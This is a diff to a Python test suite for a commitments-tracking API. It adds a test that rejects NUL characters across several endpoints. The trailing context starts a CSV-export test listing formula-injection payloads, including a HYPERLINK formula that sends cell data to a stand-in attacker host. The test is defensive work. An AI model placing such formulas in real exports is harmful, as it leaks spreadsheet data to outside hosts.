@@ -154,6 +154,38 @@ async def test_export_csv_and_json(client):
     assert [c["topics"] for c in filtered.json()] == [["igf_mandate"]]
 
 
+async def test_nul_characters_are_refused_in_text(client):
+    created = await create(client)
+    refused = [
+        await client.post(
+            "/api/commitments", json=SAMPLE | {"text": "Nous\x00 agirons."}, headers=auth("monitor")
+        ),
+        await client.post("/api/commitments", json=SAMPLE | {"title": "A\x00"}, headers=auth("monitor")),
+        await client.put(
+            f"/api/commitments/{created['id']}", json={"text": "Nous\x00 agirons."}, headers=auth("monitor")
+        ),
+        await client.post(
+            "/api/status_changes",
+            json={
+                "commitment_id": created["id"],
+                "to_status": "achieved",
+                "rationale": "fait\x00",
+                "expected_version": created["version"],
+            },
+            headers=auth("monitor"),
+        ),  # fmt: skip
+        await client.post(
+            "/api/evidence",
+            json={"commitment_id": created["id"], "title": "Rapport", "excerpt": "\x00"},
+            headers=auth("monitor"),
+        ),
+    ]
+    for response in refused:
+        assert response.status_code == 422 and "NUL" in response.json()["message"], response.text
+    listed = await client.get("/api/commitments", headers=auth("viewer"))
+    assert len(listed.json()) == 1 and listed.json()[0]["version"] == created["version"]
+
+
 async def test_csv_export_neutralises_formulas(client):
     """OWASP: a cell starting with =, +, -, @, tab or CR is exported as text, not as a formula."""
     formulas = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1"]
